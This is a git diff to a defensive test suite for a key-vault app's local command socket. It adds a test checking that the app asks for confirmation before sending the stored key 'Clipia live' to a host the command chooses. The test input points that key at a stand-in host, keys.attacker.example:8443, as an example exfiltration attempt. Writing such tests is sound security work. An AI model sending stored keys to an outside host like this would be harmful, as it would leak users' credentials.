@@ -7,7 +7,7 @@ import { createConnection, type Socket } from 'node:net'
 import { join } from 'node:path'
 import { setTimeout as sleep } from 'node:timers/promises'
 import { afterEach, beforeEach, describe, expect, it } from 'vitest'
-import { serveCommandsWhileUnlocked } from '../../main/cli/index'
+import { serveCommandsWhileUnlocked, type CommandPrompt } from '../../main/cli/index'
 import { agentPathsFor, type AgentPaths } from '../../main/cli/agent/runtimeFolder'
 import { MAX_REQUEST_BYTES, PROTOCOL_VERSION } from '../../main/cli/agent/protocol'
 import { VaultSession, createVault } from '../../main/vault/index'
@@ -23,6 +23,7 @@ let session: VaultSession
 let stop: (() => void) | undefined
 let logged: string[]
 let asked: number
+let prompts: CommandPrompt[]
 
 const talk = (bytes: string | Buffer | null, connection: Socket = createConnection(paths.appSocket)): Promise<string> =>
   new Promise((resolve, reject) => {
@@ -44,8 +45,9 @@ const serve = async (env: Record<string, string>) => {
     homeDirectory: temp.directory,
     readTimeoutMs: 300,
     log: (line) => logged.push(line),
-    ask: async () => {
+    ask: async (prompt) => {
       asked += 1
+      prompts.push(prompt)
       return 'deny'
     },
   })
@@ -68,6 +70,7 @@ beforeEach(async () => {
   paths = agentPathsFor(vaultPath, { XDG_RUNTIME_DIR: runtime })
   logged = []
   asked = 0
+  prompts = []
 })
 
 afterEach(() => {
@@ -132,6 +135,29 @@ describe("a hostile client of the app's socket", () => {
     expect(asked).toBe(1)
     expect(answer).toMatchObject({ ok: false, failure: { code: 'not_confirmed' } })
     expect(JSON.stringify(answer)).not.toContain(clipiaLive)
+  })
+})
+
+describe('a test sent elsewhere through the app', () => {
+  it("asks every time before keys go to a host of the command's choosing, offering Allow once only", async () => {
+    await serve({ XDG_RUNTIME_DIR: join(temp.directory, 'run') })
+    const test = (baseUrls: { provider: string; url: string }[]) =>
+      ask({
+        v: PROTOCOL_VERSION,
+        op: 'job',
+        job: 'test',
+        input: { names: ['Clipia live'], all: false, baseUrls, extraCa: null },
+      })
+    const sent = await test([{ provider: 'clipia', url: 'https://keys.attacker.example:8443' }])
+    expect(sent).toMatchObject({ ok: false, failure: { code: 'not_confirmed' } })
+    expect(prompts).toEqual([
+      expect.objectContaining({
+        command: 'keyward test',
+        keyNames: ['Clipia live'],
+        sentTo: ['keys.attacker.example:8443'],
+        terminalKnown: false,
+      }),
+    ])
   })
 })
 
